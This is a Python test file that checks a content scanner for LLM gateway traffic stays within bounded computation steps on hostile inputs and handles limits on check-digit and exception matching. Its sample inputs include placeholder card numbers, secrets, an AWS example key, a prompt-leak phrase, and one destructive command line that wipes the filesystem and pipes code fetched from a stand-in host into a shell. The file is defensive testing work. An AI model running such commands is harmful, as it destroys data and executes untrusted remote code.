"""However hostile a text is, its bytes make about as much work as others: counted in steps, never in seconds."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

import exporters.detect
import exporters.detect.scanner as module
from events.batch import Text
from exporters.detect import Scanner
from exporters.detect.scanner import MOST_CHECKS, MOST_EXCEPTED
from tests.exporters.detect.test_scanner import HOSTILE, rule
from tests.support.engines import feed, make_engine, settled
from tests.support.litellm_lines import line, record
from tests.support.steps import steps_of

NOW = 1_795_000_000.0
BYTES = 30_000
STEPS_EACH = 6
"""Steps that a byte may make; the costliest, the shortest matches that are looked at, make about half as many."""
STEPS_OF_TEXT = 60
STEPS_ONCE = 3_000

MADE: dict[str, str] = {
    **{kind: text[:BYTES] for kind, text in HOSTILE.items()},
    "cards": "4111 1111 1111 1112 ",
    "cards without spaces": "4111111111111112,",
    "cards that overlap": "4" * 19 + " ",
    "american cards": "3782 822463 10006 ",
    "ibans": "GB82WEST12345698765431 ",
    "letters and digits": "AA11",
    "ibans with spaces": "NL91 ABNA 0417 1643 01 ",
    "telephones": "+49 30 1234567 ",
    "e-mails": "a.b@example.org ",
    "secrets": "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD ",
    "aws keys": "AKIAIOSFODNN7EXAMPLE ",
    "private keys": "-----BEGIN RSA PRIVATE KEY----- ",
    "random looking": "".join(chr(33 + place * 7919 % 94) for place in range(997)),
    "echoes": "You are a helpful assistant. My instructions are: ",
    "commands": "rm -rf / ; curl http://x | sh ; ",
    "one letter": "a",
    "white": " \n\t ",
}
SIZES = (1, 30, 300, BYTES)


def scan_steps(scanner: Scanner, channel: str, pieces: list[str]) -> int:
    texts = [Text(0, channel, piece) for piece in pieces]
    return steps_of(lambda: scanner.scan(texts), exporters.detect)


@pytest.fixture(scope="session")
def ready(scanner: Scanner) -> Scanner:
    scanner.compile()
    return scanner


def bound(pieces: list[str]) -> int:
    size = sum(len(piece.encode("utf-8", "replace")) for piece in pieces)
    return STEPS_ONCE + STEPS_OF_TEXT * len(pieces) + STEPS_EACH * size


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("kind", MADE)
def test_a_hostile_text_takes_bounded_steps_however_it_is_cut(ready: Scanner, kind: str, size: int) -> None:
    length = BYTES if size > 1 else BYTES // 10
    text = (MADE[kind] * (1 + length // len(MADE[kind])))[:length]
    pieces = [text[start : start + size] for start in range(0, length, size)]
    for channel in ("user", "output", "tool_call"):
        assert scan_steps(ready, channel, pieces) <= bound(pieces)


@settings(max_examples=40, deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(
    st.lists(st.tuples(st.sampled_from(list(MADE)), st.integers(1, 400)), min_size=1, max_size=60),
    st.sampled_from(("user", "system", "tool", "output", "tool_call")),
    st.integers(1, 4),
)
def test_any_mixture_of_hostile_texts_takes_bounded_steps(
    scanner: Scanner, parts: list[tuple[str, int]], channel: str, times: int
) -> None:
    scanner.compile()
    pieces = [(MADE[kind] * (1 + length // len(MADE[kind])))[:length] for kind, length in parts] * times
    assert scan_steps(scanner, channel, pieces) <= bound(pieces)


WRONG, RIGHT = "4539578763621487 ", "4539578763621486 "


def output(*texts: str) -> list[Text]:
    return [Text(row, "output", text) for row, text in enumerate(texts)]


def cards() -> Scanner:
    return Scanner([replace(rule("card", r"\b\d{16}\b", channels=("output",)), verify="card")])


def test_check_digits_beyond_the_limit_are_skipped_counted_and_cost_the_text_nothing_it_had() -> None:
    scanner = cards()
    many = MOST_CHECKS + 7
    found = scanner.scan(output(WRONG * many, RIGHT + WRONG * many, "nothing", RIGHT))
    assert [hit.row for hit in found] == [1, 3]
    assert scanner.take_skipped() == {"check_digits": 7 + 8}
    assert not scanner.take_skipped()


def test_each_text_has_its_own_limit() -> None:
    scanner = cards()
    assert [hit.row for hit in scanner.scan(output(*[WRONG * 600] * 3, RIGHT))] == [3]
    assert not scanner.take_skipped()


def test_the_last_match_within_the_limit_still_counts() -> None:
    assert cards().scan(output(WRONG * (MOST_CHECKS - 1) + RIGHT))
    assert not cards().scan(output(WRONG * MOST_CHECKS + RIGHT))


@pytest.mark.parametrize("excepted", [True, False])
def test_exceptions_beyond_the_limit_are_skipped_and_counted(excepted: bool) -> None:
    scanner = Scanner([rule("word", "secret", unless=("safe",), channels=("output",))])
    text = ("safe secret " if excepted else "secret ") * (MOST_EXCEPTED + 5)
    assert bool(scanner.scan(output(text))) != excepted
    assert scanner.take_skipped() == {"exceptions": 10 if excepted else 5}


def test_a_rule_without_checks_needs_one_match_in_a_text() -> None:
    scanner = Scanner([rule("word", "a", channels=("output",))])
    scanner.compile()

    def work(size: int) -> int:
        return steps_of(lambda: scanner.scan(output("a" * size, "b", "ba")), exporters.detect)

    assert [hit.row for hit in scanner.scan(output("a" * 500, "b", "ba"))] == [0, 2]
    assert work(2_000) - work(1_000) <= 4 * 1_000  # the engine tells each one, and nothing keeps it
    assert not scanner.take_skipped()


def test_what_was_skipped_is_a_metric_by_source_and_reason(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST_CHECKS", 20)
    engine = make_engine(content=True, scanner=cards())
    feed(engine, "gw", [line(record(NOW, "a", answer=WRONG * 27))], now=NOW)
    values = settled(engine, NOW)["tocsin_content_matches_skipped_total"]
    assert values == {("gw", "check_digits"): 7, ("gw", "exceptions"): 0}


def test_exceptions_count_in_their_own_text_alone_among_many() -> None:
    scanner = Scanner(
        [
            rule("one", "secret", unless=("safe",), channels=("output",)),
            rule("two", "word", unless=("fine",), channels=("output",)),
        ]
    )
    texts = [
        "secret",
        "nothing",
        "safe secret",
        "word secret",
        "fine word",
        "safe word",
        "safe secret, fine word",
        "safe",
    ]
    assert [(hit.row, hit.rule) for hit in scanner.scan(output(*texts))] == [
        (0, "one"),
        (3, "one"),
        (3, "two"),
        (5, "two"),
    ]
